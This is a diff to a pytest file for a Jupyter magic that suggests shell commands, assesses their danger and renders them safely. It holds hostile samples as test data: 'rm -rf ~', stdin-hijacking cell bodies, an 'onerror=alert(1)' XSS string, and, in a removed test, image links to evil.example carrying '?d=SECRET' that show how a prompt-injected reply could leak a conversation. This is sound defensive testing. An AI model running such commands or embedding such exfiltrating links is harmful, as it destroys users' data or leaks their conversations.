@@ -8,7 +8,7 @@ import pytest
 from markdown_it import MarkdownIt
 
 from devgpt_magic.engine import Engine
-from devgpt_magic.render import (insert_cell_text, markdown_bundle, markdown_html, md_code, md_text,
+from devgpt_magic.render import (bash_cell, insert_cell_text, markdown_bundle, markdown_html, md_code, md_text,
                                  suggestion_html, suggestion_markdown, suggestion_text, visible)
 from devgpt_magic.schema import CommandStep, Suggestion
 
@@ -113,9 +113,11 @@ def test_insert_cell_text():
     for command in ("echo $HOME", "ls {a,b}", "cat <<EOF\nhello\nEOF", "for f in *; do echo \"$f\"; done",
                     "echo a \\"):
         cell = insert_cell_text(steps(command))
-        assert cell.startswith("%%bash\n") and cell.endswith(command)
+        assert cell.startswith("%%bash\n") and f"\n{command}\nDEVGPT_END\n" in cell
     mixed = insert_cell_text(steps("ls", "cat <<EOF\nx\nEOF"))
-    assert mixed == "%%bash\nls\ncat <<EOF\nx\nEOF"
+    assert mixed == "%%bash\nbash -c \"$(cat <<'DEVGPT_END'\nls\ncat <<EOF\nx\nEOF\nDEVGPT_END\n)\" </dev/null"
+    # IPython reads a `!` line that ends in ? as a help request (it evaluates the name in the kernel)
+    assert insert_cell_text(steps("find . -name x?")) == bash_cell("find . -name x?")
     # a step that was never assessed is assessed, not taken as safe
     assert insert_cell_text([CommandStep(command="rm -rf ~")]).startswith("# DANGEROUS: ")
 
@@ -134,21 +136,37 @@ def test_a_line_separator_never_splits_an_inserted_command():
     assert visible("ls\u2028x\u2029y") == "ls\\u2028x\\u2029y"
 
 
-def test_images_in_a_reply_are_links_never_loaded():
-    """A remote image loads without a click; a prompt-injected reply could put the conversation in its URL."""
-    html = markdown_html("see ![chart](https://evil.example/x.png?d=SECRET) and ![r][1]\n\n[1]: https://e.example/r.png"
-                         "\n\n<img src=https://evil.example/y.png>")
-    assert "<img" not in html
-    assert 'href="https://evil.example/x.png?d=SECRET"' in html and "&lt;img" in html
+@pytest.mark.parametrize("command", [
+    'cat > "$MARK"\necho the second line ran >> "$MARK.2"',        # cat would read the rest of a plain %%bash cell
+    'python3\nopen(__import__("os").environ["MARK"], "w").write("ran as python")',
+    "ls > /dev/null\ncat <<EOF >> \"$MARK.2\"\nthe second line ran\nEOF\necho DEVGPT_END",
+])
+def test_an_inserted_bash_cell_runs_what_was_checked_whatever_its_commands_read(command, tmp_path, monkeypatch):
+    """IPython feeds a %%bash cell to bash on stdin: a first command that reads stdin would run the rest of the
+    cell as its own program (a review ran `perl` + a Perl line that deleted a home folder this way). The cell
+    hands its commands to bash -c with stdin from /dev/null, as the danger check reads them."""
+    from IPython.core.interactiveshell import InteractiveShell
+
+    monkeypatch.setenv("MARK", str(tmp_path / "mark"))
+    cell = insert_cell_text([CommandStep(command=command)])
+    magic, body = cell.split("\n", 1)
+    assert magic == "%%bash" and command in body
+    InteractiveShell.instance().run_cell_magic("bash", "--no-raise-error", body)
+    assert not (tmp_path / "mark").exists() or (tmp_path / "mark").read_text() == ""
+    if "second line" in command:
+        assert (tmp_path / "mark.2").read_text().strip() == "the second line ran"
 
 
-def test_the_decided_note_shows_commands_as_a_terminal_would_run_them():
-    from devgpt_magic.render import decided_text
+@pytest.mark.parametrize("name", ["a\\|<img src=x onerror=alert(1)>", "a\\\\|b", "a\\\\\\|b", "x|y", "\\|"])
+def test_a_table_cell_keeps_every_pipe_of_its_code_span_escaped(name):
+    """GFM (JupyterLab's marked) ends a cell at a pipe preceded by an even number of backslashes, even in a
+    code span: ``\\|`` in an argument once became ``\\\\|``, and the rest of the name was parsed as Markdown."""
+    import re
 
-    s = Suggestion(request="r", commands=[CommandStep(command="echo \x1b[2Jhi"), CommandStep(command="ls -la")])
-    text = decided_text(s)
-    assert "\x1b" not in text and "1. $ echo \\x1b[2Jhi" in text and "2. $ ls -la" in text
-    assert text.endswith("(explaining each part...)")
-    assert decided_text(Suggestion(request="r", commands=[CommandStep(command="ls")])).startswith("$ ls\n")
-    dangerous = Engine._assess(Suggestion(request="r", commands=[CommandStep(command="rm -rf ~")]))
-    assert "risk: DANGEROUS" in decided_text(dangerous)  # the danger shows with the command, not after
+    from devgpt_magic.render import _table_code
+
+    cell = _table_code(name)
+    assert cell.count("|") == name.count("|")
+    for pipe in re.finditer(r"\|", cell):
+        backslashes = len(cell[:pipe.start()]) - len(cell[:pipe.start()].rstrip("\\"))
+        assert backslashes % 2 == 1, cell
